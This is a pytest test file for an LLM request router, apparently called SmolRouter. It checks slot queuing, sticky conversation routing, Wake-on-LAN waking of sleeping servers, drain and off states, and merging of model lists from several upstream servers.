def test_a_changed_number_of_slots_counts_at_once() -> None:
    with SlotsTest({"one": {}}, PRIORITIES, limits={"reload_interval": 0.1}) as test:

        def set_slots(slots: int | None) -> None:
            servers = test.with_urls({"one": {} if slots is None else {"slots": slots}})
            test.router.routes.write_text(json.dumps({**test.routes, "servers": servers}))
            wait_until(lambda: test.server("one")["slots"] == slots)

        # Requests that began without a limit count when there is one.
        test.send("a", "normal")
        test.send("b", "normal")
        wait_until(lambda: len(test.gate.arrived) == 2)
        set_slots(2)
        test.queue("c", "normal")
        test.queue("d", "normal")
        set_slots(3)
        wait_until(lambda: len(test.gate.arrived) == 3)
        assert test.gate.arrived[2:] == ["c"]
        set_slots(1)
        for word in "abc":
            assert test.queued() and test.end(word).status == 200
        wait_until(lambda: len(test.gate.arrived) == 4)
        test.queue("e", "normal")
        set_slots(None)
        wait_until(lambda: len(test.gate.arrived) == 5)
        assert test.gate.arrived[3:] == ["d", "e"]


def test_what_takes_a_slot() -> None:
    with SlotsTest({"one": {"slots": 1}}, PRIORITIES) as test:
        test.send("first", "normal", path="/v1/embeddings")
        test.gate.wait_for("first")
        assert test.server("one")["running"] == 1
        # Lists and what else only looks go through.
        test.gate.end("")
        for method in ("GET", "HEAD"):
            assert request(test.router.port, method, "/upstream/one/v1/models").status == 200
        sock = test.clients["second"] = connect(test.router.port)
        path = "/upstream/one/v1/chat/completions"
        sock.sendall(encode_post(path, chat_document("any", "second")))
        test.wait_for_queue(1)
        test.end("first")
        assert test.end("second").status == 200


def test_the_end_of_the_router_while_requests_wait() -> None:
    with SlotsTest({"one": {"slots": 1}}, PRIORITIES, SHUTDOWN_GRACE=1) as test:
        test.send("first", "normal")
        test.gate.wait_for("first")
        test.queue("second", "normal")
        test.queue("third", "normal")
        test.router.signal(signal.SIGTERM)
        # The grace is for those who wait, too.
        test.end("first")
        assert wait_until(lambda: "second" in test.gate.arrived)
        assert test.answer("third").status == 503
        assert test.router.wait() == 0


def test_least_busy_counts_by_slots() -> None:
    servers = {"big": {"slots": 4}, "small": {"slots": 1}}
    aliases = {"pair": {"strategy": "least_busy", "instances": ["small/m", "big/m"]}}
    with SlotsTest(servers, aliases) as test:
        for number in range(5):
            test.send(f"w{number}", "pair")
            wait_until(lambda: len(test.gate.arrived) == len(test.clients))
        # The small one has room once, and is full then.
        assert test.gate.running == {"small": 1, "big": 4}
        test.queue("more", "pair")


# --- conversations that stay together ---------------------------------------------------

STICKY_ALIASES = {"all": {"strategy": "sticky", "instances": ["one/m", "two/m", "three/m"]}}


def ask_turn(test: SlotsTest, name: str, turn: int, *fields: tuple[str, str]) -> tuple[str, str]:
    """Ask for a turn of a conversation; return the server that answered and the attempts."""
    messages = [{"role": "user", "content": f"{name} begins"}]
    for number in range(turn):
        messages.append({"role": "assistant", "content": f"{number}"})
        messages.append({"role": "user", "content": f"{name} {number}"})
    document = {"model": "all", "messages": messages}
    got = request(test.router.port, "POST", CHAT, document, fields)
    assert got.status == 200, got
    return got.get("X-SmolRouter-Upstream").split("/")[-1], got.get("X-SmolRouter-Attempts")


def test_a_conversation_stays_at_its_instance() -> None:
    with SlotsTest({"one": {}, "two": {}, "three": {}}, STICKY_ALIASES) as test:
        for number in range(50):
            test.send(f"other {number}", "all")
        wait_until(lambda: len(test.gate.arrived) == 50)
        # A new conversation goes to the least busy one.
        assert set(test.gate.most) == {"one", "two", "three"}
        assert max(test.gate.most.values()) - min(test.gate.most.values()) <= 1
        test.gate.open()
        home, _ = ask_turn(test, "mine", 0)
        for turn in range(1, 6):
            assert ask_turn(test, "mine", turn) == (home, "1")
        for number in range(50):
            test.clients.pop(f"other {number}").close()
        for turn in range(6, 10):
            assert ask_turn(test, "mine", turn) == (home, "1")
        # Its instance dies: it moves once, for good.
        path = f"/{home}{CHAT}"
        test.upstream.scripts[path] = lambda received: [DROP]
        moved, attempts = ask_turn(test, "mine", 10)
        assert (moved != home, attempts) == (True, "2")
        del test.upstream.scripts[path]
        for turn in range(11, 14):
            assert ask_turn(test, "mine", turn) == (moved, "1")
        words = f"the conversation is at home at {moved}/m"
        # The rows of the last turns come a moment later.
        assert wait_until(lambda: wait_for_detail(test.router, "all")["trail"][-1]["why"] == words)
        # What its client says wins over how it began.
        field = ("X-Session-Id", "s")
        home, _ = ask_turn(test, "a", 0, field)
        assert all(ask_turn(test, name, 1, field) == (home, "1") for name in "abcdefgh")
        # An error that is the request's own fault moves nobody.
        for name in ("one", "two", "three"):
            script = lambda received: json_response({"error": "too long"}, 400)  # noqa: E731
            test.upstream.scripts[f"/{name}{CHAT}"] = script
        assert post_chat(test.router, "all").status == 400
        document = chat_document("all", "a")
        assert request(test.router.port, "POST", CHAT, document, [field]).status == 400
        test.upstream.scripts.clear()
        assert ask_turn(test, "a", 2, field) == (home, "1")
        # A drained home is left for good.
        set_state(test.router, home, "drain")
        moved, _ = ask_turn(test, "a", 3, field)
        set_state(test.router, home, "on")
        assert ask_turn(test, "a", 4, field) == (moved, "1") and moved != home


def test_a_conversation_whose_instance_is_full() -> None:
    servers = {name: {"slots": 1} for name in ("one", "two", "three")}
    # To wait for long at home means that no other instance serves.
    for home_wait in (0.2, PATIENCE):
        limits = {"home_wait": home_wait}
        with SlotsTest(servers, STICKY_ALIASES, limits=limits) as test:
            test.send("first", "all")
            test.gate.wait_for("first")
            home = next(iter(test.gate.most))
            test.end("first")
            test.send("full", f"m [{home}]")
            test.gate.wait_for("first", "full")
            test.send("first", "all")
            if home_wait < 1:
                wait_until(lambda: len(test.gate.arrived) == 3)
                assert test.answer("first").get("X-SmolRouter-Upstream").split("/")[-1] != home
                test.end("full")
            else:
                test.wait_for_queue(1)
                assert test.queued()[0]["waits_for"] == home
                test.end("full")
                assert test.answer("first").get("X-SmolRouter-Upstream").split("/")[-1] == home
            # Its home is still there.
            test.send("first", "all")
            assert test.answer("first").get("X-SmolRouter-Upstream").split("/")[-1] == home


@pytest.mark.parametrize("strategy", ["round_robin", "sticky"])
def test_the_server_that_made_an_answer_gets_what_follows_it(strategy: str) -> None:
    numbers = itertools.count()

    def script(received: Received) -> Iterable[Step]:
        document = {"id": f"resp_{next(numbers)}", "object": "response", "output": []}
        if received.json.get("stream"):
            begin = {"type": "response.created", "response": document}
            return sse_response([begin, {"type": "response.completed", "response": document}])
        return json_response(document)

    aliases = {"pair": {"strategy": strategy, "instances": ["one/m", "two/m"]}}
    with SlotsTest({"one": {}, "two": {}}, aliases) as test:
        test.upstream.scripts["m"] = script

        def ask(model: str = "pair", **more: Any) -> tuple[str, str]:
            document = {"model": model, "input": f"{next(numbers)}", **more}
            got = request(test.router.port, "POST", RESPONSES, document)
            assert got.status == 200, got
            found = re.search(rb"resp_[0-9]+", got.content)
            return got.get("X-SmolRouter-Upstream").split("/")[-1], found[0].decode()

        for stream in (False, True):
            # One that was asked by its name is remembered, too.
            made = [ask(stream=stream), ask(stream=stream), ask("m [two]", stream=stream)]
            for server, previous in made:
                for _ in range(3):
                    got, _ = ask(previous_response_id=previous, stream=stream)
                    assert got == server
                    # Others have their turns.
                    ask()
        assert len({server for server, _ in made}) == 2
        # Nobody else has it.
        test.upstream.scripts["m"] = lambda received: [DROP]
        document = {"model": "pair", "input": "x", "previous_response_id": made[-1][1]}
        got = request(test.router.port, "POST", RESPONSES, document)
        assert (got.status, got.get("X-SmolRouter-Attempts")) == (502, "1")
        document = {"model": "pair", "input": "x", "previous_response_id": "resp_unknown"}
        got = request(test.router.port, "POST", RESPONSES, document)
        assert (got.status, got.get("X-SmolRouter-Attempts")) == (502, "2")


def test_homes_are_few_and_end() -> None:
    first, second = (("a", "m"), ("b", "m"))
    homes = smolrouter.Homes(2, 3600.0)
    keys = [smolrouter.hash_key("alias", "\ud800" * 9000, str(number)) for number in range(3)]
    assert {len(key) for key in keys} == {16}
    homes.keep(keys[0], first)
    homes.keep(keys[1], first)
    homes.keep(keys[0], second)
    homes.keep(keys[2], first)
    # The one that was used least recently is gone.
    assert [homes.find(key) for key in keys] == [second, None, first]
    homes = smolrouter.Homes(2, 0.0)
    homes.keep(keys[0], first)
    assert homes.find(keys[0]) is None


# --- machines that sleep --------------------------------------------------------------


class SleepingServer:
    """A server whose port is closed until the test wakes it, and a socket for its packets."""

    def __init__(self, *, timeout: float = 60, mac: str = "b4:2e:99:01:02:03") -> None:
        self.upstream = Upstream()
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.packets = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.packets.bind(("127.0.0.1", 0))
        self.packets.settimeout(PATIENCE)
        where = {"address": "127.0.0.1", "port": self.packets.getsockname()[1]}
        self.record = {
            "url": f"http://127.0.0.1:{self.sock.getsockname()[1]}",
            "discover": False,
            "wake": {"mac": mac, "timeout": timeout, **where},
        }

    def __enter__(self) -> SleepingServer:
        return self

    def __exit__(self, *_: object) -> None:
        self.sock.close()
        self.packets.close()
        self.upstream.close()

    def wake(self) -> None:
        """Listen from now on."""
        self.sock.listen()
        self.upstream._listener.close()
        self.upstream._listener = self.sock
        threading.Thread(target=self.upstream._accept, daemon=True).start()

    def count_packets(self) -> int:
        """Return how many packets have come since the last time."""
        count = 0
        self.packets.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while self.packets.recv(2000):
                count += 1
        self.packets.settimeout(PATIENCE)
        return count


WAKE_LIMITS = {
    "magic_packet_interval": 0.2,
    "waking_interval": 0.05,
    "deadline_interval": 0.02,
    "cool_down": 0.01,
}


def router_of_sleepers(servers: Mapping[str, Any], **instances: list[str]) -> Router:
    """Start a router with these servers, and an alias for each of `instances`."""
    aliases = {name: {"instances": listed} for name, listed in instances.items()}
    settings = {"DEFAULT_UPSTREAM": "none", "PING_INTERVAL": 0.1, "CONNECT_TIMEOUT": 0.5}
    return Router(settings, {"servers": servers, "aliases": aliases}, limits=WAKE_LIMITS)


def test_a_magic_packet() -> None:
    packet = smolrouter.encode_magic_packet(smolrouter.parse_mac("b4:2e:99:01:02:03"))
    assert packet == bytes.fromhex("ffffffffffff" + 16 * "b42e99010203")
    for same in ("B4-2E-99-01-02-03", "b42e99010203"):
        assert smolrouter.parse_mac(same).hex() == "b42e99010203"
    for wrong in ("b4:2e-99:01:02:03", "b4:2e:99:01:02", "b4:2e:99:01:02:0g", "", "b42e9901020304"):
        with pytest.raises(ValueError, match="is no MAC address"):
            smolrouter.parse_mac(wrong)
    table = routing('{"servers": {"a": {"url": "http://a", "wake": "b42e99010203"}}}')
    wake = smolrouter.Wake(bytes.fromhex("b42e99010203"), "255.255.255.255", 9, 120)
    assert table.servers["a"].wake == wake


def test_a_sleeping_machine_is_woken() -> None:
    ways = [(CHAT, False), (CHAT, True), ("/api/chat", True), ("/v1/embeddings", False)]
    with (
        SleepingServer() as sleeper,
        router_of_sleepers({"s": sleeper.record}, m=["s/m"]) as router,
        concurrent.futures.ThreadPoolExecutor(8) as pool,
    ):
        # Lists, looks and the page wake nobody.
        for path in ("/v1/models", "/api/tags", "/healthz", "/api/upstreams", "/", "/upstream/s/x"):
            request(router.port, "GET", path, fields=[("Accept", "text/html")])
        request(router.port, "HEAD", "/upstream/s/x")
        assert sleeper.count_packets() == 0
        asked = []
        for path, stream in ways:
            document = example_request(path, "m", stream)
            asked.append(pool.submit(request, router.port, "POST", path, document))
        wanted = bytes.fromhex("ffffffffffff" + 16 * "b42e99010203")
        # It is sent again and again.
        for _ in range(3):
            assert sleeper.packets.recv(2000) == wanted
        wait_until(lambda: len(get_document(router, "/api/inflight")) == len(ways))
        for one in get_document(router, "/api/inflight"):
            assert (one["phase"], one["waits_for"]) == ("waking", "s")
        sleeper.wake()
        for (path, stream), answer in zip(ways, asked, strict=True):
            got = answer.result()
            assert got.status == 200
            if stream:
                assert without_pings(path, got.content)[0] >= 2
                assert "You said: hi" in got.text
        row = wait_for_row(router, "m")
        assert (row["status_code"], len(row["attempts"])) == (200, 2)
        assert "woke up in" in wait_for_detail(router, "m")["trail"][-1]["why"]
        sleeper.count_packets()
        assert post_chat(router, "m").status == 200
        assert sleeper.count_packets() == 0


def test_a_machine_that_does_not_wake_up() -> None:
    with (
        SleepingServer(timeout=1) as sleeper,
        router_of_sleepers({"s": sleeper.record}, m=["s/m"]) as router,
    ):
        got = post_chat(router, "m")
        assert got.status == 502 and "refused" in got.json["error"]["message"]
        assert "s: it did not wake up within 1 s (wake.timeout)" in got.json["error"]["message"]
        assert sleeper.count_packets() >= 3
        # When its clients leave, nobody needs it any more.
        with connect(router.port) as sock:
            sock.sendall(encode_post(CHAT, chat_document("m")))
            assert sleeper.packets.recv(2000)
        row = wait_for_row(router, "m")
        assert row["status_code"] == 499
        sleeper.count_packets()
        time.sleep(0.3)
        assert sleeper.count_packets() == 0
        # A machine that is switched off by its owner stops those who wait.
        with concurrent.futures.ThreadPoolExecutor(1) as pool:
            asked = pool.submit(post_chat, router, "m")
            assert sleeper.packets.recv(2000)
            set_state(router, "s", "off")
            assert asked.result().status == 503
            assert post_chat(router, "m").status == 503


def test_who_is_woken() -> None:
    failing = {"500": 500, "503": 503, "404": 404, "429": 429, "400": 400, "200": 200}
    with contextlib.ExitStack() as stack:
        sleeper = stack.enter_context(SleepingServer())
        upstream = stack.enter_context(Upstream())
        servers: dict[str, Any] = {"s": sleeper.record}
        aliases = {}
        for name, status in failing.items():
            servers[name] = {"url": f"{upstream.url}/{name}", "discover": False}
            upstream.scripts[name] = lambda received, status=status: json_response(
                {"error": "no"} if status >= 400 else {"fine": True}, status
            )
            aliases[f"a{name}"] = ["s/m", f"{name}/{name}"]
        # A server that is there and says no is awake.
        servers["there"] = {**sleeper.record, "url": f"{upstream.url}/there"}
        aliases["there"] = ["there/503"]
        router = stack.enter_context(router_of_sleepers(servers, **aliases))
        for alias in ("a200", "a400"):
            assert post_chat(router, alias).status == int(alias[1:])
        assert post_chat(router, "there").status == 503
        assert sleeper.count_packets() == 0
        pool = stack.enter_context(concurrent.futures.ThreadPoolExecutor(4))
        asked = [pool.submit(post_chat, router, f"a{status}") for status in (500, 503, 404, 429)]
        assert sleeper.packets.recv(2000)
        phases = lambda: [one["phase"] for one in get_document(router, "/api/inflight")]  # noqa: E731
        assert wait_until(lambda: phases() == 4 * ["waking"])
        sleeper.wake()
        assert [one.result().status for one in asked] == [200] * 4
        assert {one.result().get("X-SmolRouter-Attempts") for one in asked} == {"3"}


# --- servers that are closed ----------------------------------------------------------


def set_state(router: Router, name: str, state: Any, fields: Pairs = ()) -> Response:
    """Tell a router how one of its servers is to be."""
    path = f"/api/upstreams/{urllib.parse.quote(name, safe='')}"
    return request(router.port, "POST", path, {"state": state}, fields)


CLOSED_SERVERS = {"one": {"slots": 1}, "two": {}, "a/b": {}}
CLOSED_ALIASES = {
    "alone": {"instances": ["one/m"]},
    "pair": {"instances": ["one/m", "two/m"]},
}


def test_a_drained_server() -> None:
    with SlotsTest(CLOSED_SERVERS, CLOSED_ALIASES) as test:
        test.send("runs", "alone")
        test.gate.wait_for("runs")
        test.queue("waits", "alone")
        assert set_state(test.router, "one", "drain").json == {"name": "one", "state": "drain"}
        words = "one is drained and takes no requests"
        # Nobody waits for it any more, whether it came before or comes now.
        for word, path in (("waits", CHAT), ("new", CHAT), ("ollama", "/api/chat")):
            if word != "waits":
                test.send(word, "alone", path=path)
            got = test.answer(word)
            assert got.status == 503 and words.encode() in got.content
            assert wait_for_row(test.router, "alone")["error_message"].startswith(words)
        assert request(test.router.port, "GET", "/upstream/one/v1/x").status == 503
        server = test.server("one")
        assert (server["state"], server["health"], server["running"]) == ("drain", "up", 1)
        # Whatever has another server goes there; what runs here ends well.
        test.send("other", "pair")
        test.gate.wait_for("runs", "other")
        assert test.gate.running == {"one": 1, "two": 1}
        assert test.end("runs").status == 200 and test.end("other").status == 200
        # A changed file does not open it.
        test.router.signal(signal.SIGHUP)
        wait_until(lambda: test.router.stderr.count("routes: ") == 2)
        assert test.server("one")["state"] == "drain"
        assert set_state(test.router, "one", "on").status == 200
        test.send("again", "alone")
        assert test.end("again").status == 200
        assert test.server("one")["state"] == "up"
        assert "server one: drain, says 127.0.0.1" in test.router.stderr


def test_a_server_that_is_switched_off() -> None:
    with SlotsTest(CLOSED_SERVERS, CLOSED_ALIASES) as test:
        begun = threading.Event()

        def endless(received: Received) -> Iterator[Step]:
            yield from stream_response(chat_stream("Hello")[:2], whole=False)
            begun.set()
            yield HANG

        test.upstream.scripts["endless"] = endless
        test.send("other", "pair [two]")
        sock = test.clients["stream"] = connect(test.router.port)
        sock.settimeout(PATIENCE)
        document = chat_document("endless [one]", "stream", stream=True)
        sock.sendall(encode_post(CHAT, document))
        assert begun.wait(PATIENCE)
        read_until(sock, b"Hello")
        test.queue("waits", "alone")
        assert set_state(test.router, "one", "off").status == 200
        words = "one was switched off by its owner"
        # An answer that has begun ends with the reason, and its server sees the end.
        read_until(test.clients.pop("stream"), words.encode())
        seen = test.upstream.connection_of("endless")
        assert wait_until(lambda: seen.closed)
        row = wait_for_row(test.router, "endless")
        assert (row["status_code"], row["error_message"]) == (503, words)
        assert test.answer("waits").status == 503
        assert test.server("one")["running"] == 0
        # Others run on.
        assert test.end("other").status == 200
        # One that waits for either waits for the other alone.
        assert set_state(test.router, "two", "off").status == 200
        test.send("nobody", "pair")
        error = test.answer("nobody").json["error"]
        assert error["message"].startswith("one is switched off, two is switched off")
        assert error["code"] == "server_closed"


def test_how_the_state_of_a_server_is_set() -> None:
    with SlotsTest(CLOSED_SERVERS, CLOSED_ALIASES) as test:
        router = test.router
        assert set_state(router, "a/b", "drain").json["name"] == "a/b"
        assert test.server("a/b")["state"] == "drain"
        got = set_state(router, "three", "off")
        assert (got.status, b"there are one, two" in got.content) == (404, True)
        for state in ("", "ON", True, None, {"on": 1}):
            assert set_state(router, "one", state).status == 400
        for content in (b"", b"[]", b"drain", b'"drain"'):
            assert request(router.port, "POST", "/api/upstreams/one", content).status == 400
        elsewhere = [("Origin", "http://evil.example")]
        assert set_state(router, "one", "off", elsewhere).status == 403
        assert set_state(router, "one", "off", [("X-Forwarded-For", "10.0.0.1")]).status == 403
        assert request(router.port, "GET", "/api/upstreams/one").status == 405
        assert test.server("one")["state"] == "unknown"


# --- lists of models ------------------------------------------------------------------


def asked_for_models(upstream: Upstream) -> list[str | None]:
    """Return the Authorization of each request for the models of a server."""
    paths = ("/v1/models", "/api/tags")
    return [r.get("Authorization") for r in upstream.own_requests if r.path in paths]


def test_model_list_is_the_union_and_cached() -> None:
    here, there = Upstream(models=["one", "twin"]), Upstream(models=["two", "twin"])
    servers = {"here": {"url": here.url, "api_key": "sk-of-here"}, "there": there.url}
    aliases = {"friend": {"instances": ["here/one"]}}
    table = {"servers": servers, "aliases": aliases}
    settings = {"DEFAULT_UPSTREAM": there.url, "MODEL_MAP": '{"exact":"one","/r/":"x"}'}
    with here, there, Router(settings, table) as router:
        names = model_names(router)
        assert set(names[:2]) == {"friend", "exact"}
        assert {"one", "two", "twin [here]", "twin [there]"} <= set(names)
        assert "/r/" not in names and len(set(names)) == len(names)
        assert model_names(router) == names
        assert asked_for_models(there).count(f"Bearer {CLIENT_KEY}") == 1
        assert model_names(router, "sk-of-another") == names
        assert asked_for_models(there).count("Bearer sk-of-another") == 1
        assert set(asked_for_models(here)) == {"Bearer sk-of-here"}
        for name, upstream in (("here", here), ("there", there)):
            got = post_json("/v1/chat/completions", chat_document(f"twin [{name}]"), router)
            assert got.status == 200
            assert last_request(upstream).model == "twin"


REFUSED_LISTS = {
    "a wrong key": (
        json_response({"error": {"message": "bad key"}}, 401, [("WWW-Authenticate", "x")]),
        "bad key"),
    "forbidden": (json_response({"detail": "not you"}, 403), "not you"),
    "too many": (json_response({"error": "later"}, 429, [("Retry-After", "7")]), "later"),
    "no list": (whole_response(b"<h1>nothing</h1>", 404, kind="text/html"), "404"),
    "no content": (whole_response(b"", 503), "503"),
}  # fmt: skip


@pytest.mark.parametrize("path", ("/v1/models", "/v1/models/tiny", "/api/tags"))
@pytest.mark.parametrize("steps, words", REFUSED_LISTS.values(), ids=REFUSED_LISTS)
def test_the_only_server_refuses_its_list_itself(steps: list[Step], words: str, path: str) -> None:
    theirs = parse_response(steps[0])  # type: ignore[arg-type]
    with router_and_upstream(lambda received: steps) as (router, _):
        got = request(router.port, "GET", path)
    assert got.status == theirs.status
    for name in ("WWW-Authenticate", "Retry-After"):
        assert got.get(name) == theirs.get(name)
    if path.startswith("/v1/"):
        assert (got.content, got.get("Content-Type")) == (
            theirs.content,
            theirs.get("Content-Type"),
        )
    else:
        check_error(path, got)
        assert words in got.json["error"]


def test_a_refused_list_hides_no_other_server() -> None:
    refusing, good = Upstream(lambda received: json_response({}, 401)), Upstream(models=["there"])
    with refusing, good:
        table = {"servers": {"refusing": refusing.url}}
        with Router({"DEFAULT_UPSTREAM": good.url}, table) as router:
            assert model_names(router) == ["there"]
        with Router(
            {"DEFAULT_UPSTREAM": refusing.url}, {"servers": {"gone": refusing_url()}}
        ) as router:
            assert request(router.port, "GET", "/v1/models").status == 502


ONE_ENTRY = [model_entry("one")]
LIST_FORMS = {
    "wrapped": json_response({"object": "list", "data": ONE_ENTRY}),
    "bare": json_response(ONE_ENTRY),
    "behind a mark": whole_response(b"\xef\xbb\xbf" + encode_json({"data": ONE_ENTRY})),
    "bare behind a mark": whole_response(b"\xef\xbb\xbf" + encode_json(ONE_ENTRY)),
    "twice": json_response({"data": [*ONE_ENTRY, {"id": "one", "n": 2}]}),
    "gzip": whole_response(gzip.compress(encode_json({"data": ONE_ENTRY})),
                           fields=[("Content-Encoding", "gzip")]),
    "deflate": whole_response(zlib.compress(encode_json(ONE_ENTRY)),
                              fields=[("Content-Encoding", "deflate")]),
    "with others": json_response([7, None, {"id": 7}, {"name": "x"}, *ONE_ENTRY]),
}  # fmt: skip


@pytest.mark.parametrize("steps", LIST_FORMS.values(), ids=LIST_FORMS)
def test_model_list_in_any_form(steps: list[Step]) -> None:
    with router_and_upstream(lambda received: steps) as (router, _):
        got = request(router.port, "GET", "/v1/models")
    assert (got.status, got.json["data"]) == (200, ONE_ENTRY)


@pytest.mark.parametrize("content", (b"<html>", b"7", b'"one"', b"", b"[" * 300 + b"]" * 300))
def test_what_is_no_model_list(content: bytes) -> None:
    with pytest.raises(ValueError, match="no JSON list"):
        smolrouter.read_model_list(content, smolrouter.LIMITS)


CHANGES = (
    ("POST", "/api/copy", {"source": "one", "destination": "two"}, 0.0),
    ("POST", "/api/create", {"model": "two", "from": "one"}, 0.0),
    ("POST", "/api/pull", {"model": "two", "stream": True}, 0.0),
    ("DELETE", "/api/delete", {"model": "one"}, 0.0),
    # While the list was asked for, it changed: what comes is old.
    ("POST", "/api/copy", {"source": "one", "destination": "two"}, 0.4),
)


@pytest.mark.parametrize("method, path, document, delay", CHANGES)
def test_what_changes_models_makes_the_list_old(
    method: str, path: str, document: Any, delay: float
) -> None:
    listed = ["one"]

    def serve(received: Received) -> Iterator[Step]:
        if received.path != "/v1/models":
            listed[:] = ["changed"]
            yield from json_response({"status": "success"})
            return
        before = [model_entry(name) for name in listed]
        yield delay
        yield from json_response({"data": before})

    with Upstream(serve) as upstream:
        table = {"servers": {"gpu": {"url": upstream.url, "api": "ollama"}}}
        with Router({"DEFAULT_UPSTREAM": upstream.url}, table) as router:
            if delay:
                listing = threading.Thread(target=model_names, args=(router,))
                listing.start()
                wait_until(lambda: upstream.own_requests)
            else:
                assert model_names(router) == ["one"]
            assert request(router.port, method, path, document).status == 200
            assert model_names(router) == ["changed"]
            tags = request(router.port, "GET", "/api/tags").json["models"]
            assert [model["name"] for model in tags] == ["changed"]
            if delay:
                listing.join()


def test_model_list_does_not_wait_for_the_slow() -> None:
    slow, good = Upstream(lambda received: [HANG]), Upstream(models=["quick"])
    table = {"servers": {"slow": slow.url, "good": good.url}}
    with slow, good, Router({"DEFAULT_UPSTREAM": good.url}, table) as router:
        began = time.monotonic()
        assert model_names(router) == ["quick"]
        # A server is waited for 2 s at most.
        assert time.monotonic() - began < 4


def test_model_list_of_nobody_is_an_error() -> None:
    settings = {"DEFAULT_UPSTREAM": switched_off_url("dead")}
    with Router(settings, {"servers": {"gone": switched_off_url("gone")}}) as router:
        got = request(router.port, "GET", "/v1/models")
        assert got.status == 502
        check_openai_error(got.json)


@pytest.mark.parametrize("extra", [0, 1], ids=["alone", "beside a good one"])
def test_model_list_that_is_too_deep_is_none(extra: int) -> None:
    deep = b'{"data":[{"id":"a","x":' + b"[" * 980 + b"]" * 980 + b"}]}"
    odd, good = Upstream(lambda r: whole_response(deep)), Upstream(models=["fine"])
    table = {"servers": {"good": good.url} if extra else {}}
    settings = {"DEFAULT_UPSTREAM": odd.url, "WEBUI_SECURITY": "NONE"}
    with odd, good, Router(settings, table) as router:
        got = request(router.port, "GET", "/v1/models")
        assert got.status == (200 if extra else 502)
        assert ("fine" if extra else "levels") in got.content.decode()
        server = request(router.port, "GET", "/api/upstreams").json[0]
        assert (server["state"], server["models"]) == ("up", [])
        assert "levels" in server["last_error"]


# --- lists that decide where requests go ----------------------------------------------

# A list is asked for ten times a second instead of once a minute, and a dead server's counts for
# half a second instead of ten minutes.
QUICK_LISTS = {"model_list_fresh": 0.1, "model_list_kept": 0.5, "cool_down": 0.05}


@contextlib.contextmanager
def listing_pair(limits: Mapping[str, float] | None = None, **settings: Any) -> Iterator[tuple]:
    """Start a router before two servers, `one` with two models and `two` with three."""
    one, two = Upstream(models=["m1", "twin"]), Upstream(models=["m2", "twin", "Mixed:latest"])
    settings = {"SERVERS": f"one={one.url} two={two.url}", **settings}
    with one, two, Router(settings, limits=limits) as router:
        yield router, one, two


def known_models(router: Router) -> set[str]:
    """Return the models on the lists by which requests are routed."""
    servers = get_document(router, "/api/upstreams")
    return {model for server in servers for model in server["models"]}


def reach(router: Router, upstream: Upstream, model: str) -> bool:
    """Tell whether a chat with this model is answered by this server."""
    got = post_chat(router, model)
    return (got.status, got.get("X-SmolRouter-Upstream")) == (200, upstream.url)


@pytest.mark.parametrize("stream", (False, True))
@pytest.mark.parametrize("path", EXAMPLE_REQUESTS)
def test_a_listed_model_reaches_its_server(path: str, stream: bool) -> None:
    router, _, two = shared_pair()
    for asked, sent in (("m2", "m2"), ("m2:latest", "m2"), ("mixed", "Mixed:latest")):
        got = request(router.port, "POST", path, example_request(path, asked, stream))
        assert (got.status, last_request(two).model) == (200, sent)
        assert got.get("X-SmolRouter-Route") == "model list"
        assert wait_for_row(router, asked)["route"] == "model list"


@functools.cache
def shared_pair() -> tuple[Router, Upstream, Upstream]:
    """Return what `listing_pair` makes, shared by tests that change nothing."""
    return AT_SESSION_END.enter_context(listing_pair())


def test_the_list_of_models_tells_no_lies() -> None:
    """Every name on it is answered by a server that has it."""
    router, one, two = shared_pair()
    for name in model_names(router):
        model = name.partition(" [")[0]
        holders = [upstream for upstream in (one, two) if model in upstream.models]
        assert post_chat(router, name).get("X-SmolRouter-Upstream") in [u.url for u in holders]
        assert (
            request(router.port, "GET", f"/v1/models/{name.replace(' ', '%20')}").json["id"] == name
        )
    assert request(router.port, "GET", "/v1/models/MIXED").json["id"] == "Mixed:latest"


def test_where_the_step_is_shown() -> None:
    router, _, two = shared_pair()
    assert reach(router, two, "mixed")
    assert re.fullmatch(STEP_WORDS, wait_for_detail(router, "mixed")["trail"][-1]["why"])
    shown = get_document(router, "/api/routes?model=MIXED")["decision"]
    assert (shown["route"], shown["instances"][0]["model"]) == ("model list", "Mixed:latest")
    assert re.fullmatch(STEP_WORDS, shown["trail"][-1]["why"])
    ages = [server["models_age_s"] for server in get_document(router, "/api/upstreams")]
    assert all(0 <= age < 120 for age in ages)
    dead = refusing_url()
    settings = {"SERVERS": f"dead={dead} two={two.url}", "DEFAULT_UPSTREAM": "dead"}
    done = run_program("explain", "MIXED", settings=settings)
    assert re.search(rf"  \+ model list: {STEP_WORDS}\n", done.stdout)
    assert "! dead has given no list of models: connection refused" in done.stdout
    assert f"send 'Mixed:latest' to two ({two.url})" in done.stdout
    done = run_program("explain", "nobody", settings=settings)
    assert "- model list: no server lists it" in done.stdout


STEP_WORDS = r"two lists 'Mixed:latest' \(\d+ s ago\)"


def test_a_server_that_dies_fails_with_its_name_and_comes_back() -> None:
    one, two = Upstream(models=["m1", "twin"]), SwitchableList(models=["m2", "twin"])
    settings = {"SERVERS": f"one={one.url} two={two.url}", "DEFAULT_UPSTREAM": "none"}
    with one, two, Router(settings, limits={**QUICK_LISTS, "model_list_kept": 600}) as router:
        assert reach(router, two, "m2") and reach(router, one, "twin")
        two.dead = True
        got = post_chat(router, "m2")
        assert got.status == 502 and "two/m2" in got.json["error"]["message"]
        assert reach(router, one, "twin")
        two.dead = False
        one.scripts["twin"] = lambda received: [DROP]
        assert reach(router, two, "twin")
        assert wait_for_row(router, "twin")["attempts"]
        assert reach(router, two, "m2")
    with Router({**settings, "DEFAULT_UPSTREAM": one.url}, limits=QUICK_LISTS) as router:
        assert get_document(router, "/api/routes?model=m2")["decision"]["route"] == "default"


class SwitchableList(Upstream):
    """An upstream that breaks every connection while it is `dead`."""

    dead = False

    def _steps(self, received: Received) -> Iterable[Step]:
        return [DROP] if self.dead else super()._steps(received)


def test_the_list_of_a_dead_server_counts_for_a_while() -> None:
    one, two = Upstream(models=["m1"]), SwitchableList(models=["m2"])
    with (
        one,
        two,
        Router({"SERVERS": f"one={one.url} two={two.url}"}, limits=QUICK_LISTS) as router,
    ):

        def route() -> str:
            return get_document(router, "/api/routes?model=m2")["decision"]["route"]

        assert route() == "model list"
        # An idle router asks nobody, and so does not know whether the list is true.
        time.sleep(0.6)
        assert route() == "model list"
        two.dead = True
        assert route() == "model list"
        assert wait_until(lambda: route() == "default")
        two.dead = False
        assert wait_until(lambda: route() == "model list")


